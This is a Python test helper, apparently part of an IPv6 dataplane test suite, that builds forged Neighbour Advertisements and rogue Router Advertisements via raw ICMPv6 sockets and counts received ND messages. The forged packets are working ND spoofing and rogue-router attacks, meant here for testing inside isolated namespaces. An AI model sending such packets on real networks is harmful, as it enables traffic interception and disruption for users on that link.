#!/usr/bin/env python3
"""Forged Neighbour Discovery for the IPv6 attack suite (test/netns/dataplane-v6.test.ts).

  nd-forge.py na <ifname> <target> <mac>   an unsolicited, overriding Neighbour Advertisement for <target>
  nd-forge.py ra <ifname>                  a Router Advertisement announcing fd00:bad::/64
  nd-forge.py recv <type> <seconds>        prints how many ICMPv6 messages of <type> arrived (136: NA, 134: RA)

Sent to ff02::1 (all nodes) with hop limit 255 through a raw ICMPv6 socket: the kernel fills in the
source address and the checksum. Runs only inside the suite's own namespaces.
"""
import socket
import struct
import sys
import time


def send(ifname: str, body: bytes) -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    idx = socket.if_nametoindex(ifname)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, idx)
    s.sendto(body, ("ff02::1", 0, 0, idx))


def main() -> None:
    kind = sys.argv[1]
    if kind == "na":
        ifname, target, mac = sys.argv[2:5]
        lladdr = bytes.fromhex(mac.replace(":", ""))
        # type 136, code 0, checksum (kernel), flags O (override), target, option 2 (target link-layer address)
        body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, target) + bytes([2, 1]) + lladdr
        send(ifname, body)
    elif kind == "ra":
        ifname = sys.argv[2]
        # type 134: hop limit 64, flags 0, router lifetime 1800 s, reachable 0, retrans 0, then a prefix option
        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
        prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, "fd00:bad::")
        send(ifname, body + prefix)
    elif kind == "recv":
        want, seconds = int(sys.argv[2]), float(sys.argv[3])
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.settimeout(0.2)
        print("ready", flush=True)
        n, end = 0, time.time() + seconds
        while time.time() < end:
            try:
                data = s.recv(2048)
            except socket.timeout:
                continue
            if data and data[0] == want:
                n += 1
        print(n, flush=True)
    else:
        sys.exit(f"unknown: {kind}")


if __name__ == "__main__":
    main()
